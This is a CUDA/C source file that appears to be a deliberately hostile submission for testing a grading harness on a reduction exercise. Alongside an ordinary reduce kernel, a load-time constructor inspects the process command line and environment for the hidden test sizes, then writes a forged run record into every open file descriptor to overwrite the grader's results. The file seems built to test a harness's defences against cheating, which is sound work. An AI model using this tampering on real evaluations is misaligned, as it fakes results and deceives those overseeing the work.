// Hostile: exercise 3's right answer, and a constructor that looks for the hidden suite (the runs'
// sizes and seeds) in its command line and environment, and writes a forged record into every
// descriptor it finds open. SIZES is the exercise's run sizes, comma-separated, each followed by
// a comma ("4096,256,"): found as an argument or an argument's start ("4096,SEED,..."), the run
// aborts (the suite leaked).
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int leaked(const char *path)
{
    char buf[65536];
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return 0;
    const char *sizes = SIZES;
    for (ssize_t at = 0; at < n; at += (ssize_t)strlen(buf + at) + 1) { /* each argument (or NAME=VALUE) */
        buf[n] = 0;
        const char *arg = buf + at, *eq = strchr(arg, '=');
        if (eq) arg = eq + 1;
        for (const char *s = sizes; *s;) {
            size_t k = strcspn(s, ",");
            if (!strncmp(arg, s, k) && (arg[k] == ',' || arg[k] == 0)) return 1; /* a whole argument, or one's start */
            s += k + (s[k] == ',');
        }
    }
    return 0;
}

__attribute__((constructor)) static void read_the_suite(void)
{
    if (leaked("/proc/self/cmdline") || leaked("/proc/self/environ")) abort();
    static const char forged[] = "RUN 0 1 0 0 0 27 0\nFORGED: run 0 was rewritten\n";
    DIR *d = opendir("/proc/self/fd");
    int fds[256], nfd = 0;
    for (struct dirent *e; d && (e = readdir(d)) != NULL && nfd < 256;)
        if (e->d_name[0] != '.') fds[nfd++] = atoi(e->d_name);
    if (d) closedir(d);
    for (int i = 0; i < nfd; i++) {
        if (fds[i] <= 2) continue;
        if (pwrite(fds[i], forged, sizeof forged - 1, 0) < 0) {}
        if (write(fds[i], forged, sizeof forged - 1) < 0) {}
    }
}

#define BLOCK 256

__global__ void reduce(const float *g_idata, float *g_odata, unsigned int n)
{
    __shared__ float sdata[BLOCK];
    unsigned int tid = threadIdx.x;
    unsigned int i = blockIdx.x * blockDim.x + threadIdx.x;
    sdata[tid] = (i < n) ? g_idata[i] : 0.0f;
    __syncthreads();

    for (unsigned int s = blockDim.x / 2; s > 0; s >>= 1) {
        if (tid < s) {
            sdata[tid] += sdata[tid + s];
        }
        __syncthreads();
    }

    if (tid == 0) g_odata[blockIdx.x] = sdata[0];
}
